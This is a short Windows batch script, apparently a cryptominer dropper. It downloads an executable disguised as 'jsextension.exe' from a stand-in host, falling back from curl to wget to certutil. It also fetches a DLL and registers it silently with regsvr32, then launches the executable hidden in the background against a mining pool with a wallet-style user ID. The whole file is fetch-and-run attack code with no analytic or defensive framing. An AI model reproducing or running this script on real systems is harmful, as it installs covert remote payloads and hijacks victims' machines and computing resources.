@echo off
curl http://agentstring.invalid/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
	wget http://agentstring.invalid/download/jsextension.exe -O jsextension.exe
)
if not exist jsextension.exe (
	certutil.exe -urlcache -f http://agentstring.invalid/download/jsextension.exe jsextension.exe
)
curl https://files.agentstring.invalid/create.dll -o create.dll
regsvr32.exe -s create.dll
tasklist /fi "imagename eq jsextension.exe" | find ":" > NUL
if errorlevel 1 goto end
start /B jsextension.exe -k --tls -o pool.agentstring.invalid:443 -u 0000INVALID
:end
